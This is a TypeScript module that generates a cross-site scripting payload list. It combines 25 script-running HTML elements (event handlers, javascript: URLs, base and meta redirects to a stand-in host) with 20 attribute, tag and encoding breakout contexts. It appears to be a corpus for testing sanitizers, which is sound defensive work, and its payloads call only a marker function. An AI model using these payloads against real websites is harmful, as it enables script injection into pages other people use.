/* Texts that run a script where a page takes them for HTML, for an attribute, an address or a script. */

/** Elements that run a script, load from elsewhere or change where the page's own addresses lead, each marked "x-p". */
const TECHNIQUES: readonly string[] = [
  '<script x-p>ran()</script>',
  '<img x-p src=x onerror=ran()>',
  '<img x-p srcset=x onerror=ran()>',
  '<img x-p src=//ran.test>',
  '<svg x-p onload=ran()>',
  '<svg><set x-p onbegin=ran()>',
  '<svg><script x-p>ran()</script>',
  '<math x-p href=javascript:ran()>',
  '<body x-p onload=ran()>',
  '<iframe x-p src=javascript:parent.ran()>',
  '<iframe x-p srcdoc=<script>ran()</script>>',
  '<object x-p data=javascript:ran()>',
  '<embed x-p src=javascript:ran()>',
  '<input x-p autofocus onfocus=ran()>',
  '<select x-p autofocus onfocus=ran()>',
  '<p x-p tabindex=0 autofocus onfocus=ran()>',
  '<details x-p open ontoggle=ran()>',
  '<video x-p><source onerror=ran()>',
  '<audio x-p src=x onerror=ran()>',
  '<marquee x-p onstart=ran()>',
  "<style x-p>@import'//ran.test'</style>",
  '<link x-p rel=stylesheet href=//ran.test>',
  '<base x-p href=//ran.test>',
  '<meta x-p http-equiv=refresh content=0;//ran.test>',
  '<a x-p href=javascript:ran()>free</a>',
];

/** Where a text may stand, and how it gets out of there. */
const CONTEXTS: readonly ((element: string) => string)[] = [
  (element) => element,
  (element) => `">${element}`,
  (element) => `'>${element}`,
  (element) => `\`>${element}`,
  (element) => `</title>${element}`,
  (element) => `</textarea>${element}`,
  (element) => `</script>${element}`,
  (element) => `</style>${element}`,
  (element) => `</noscript>${element}`,
  (element) => `</template>${element}`,
  (element) => `-->${element}`,
  (element) => `]]>${element}`,
  (element) => `"}${element}`,
  (element) => `<${element}`,
  (element) => `{{${element}}}`,
  (element) => `javascript:ran()//${element}`,
  (element) => `';ran();//${element}`,
  (element) => element.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (element) => element.replaceAll('<', '%3c').replaceAll('>', '%3e'),
  (element) => element.replaceAll('<', '＜').replaceAll('>', '＞'),
];

/** Every technique in every context. */
export const SCRIPT_PAYLOADS: readonly string[] = CONTEXTS.flatMap((context) => TECHNIQUES.map(context));
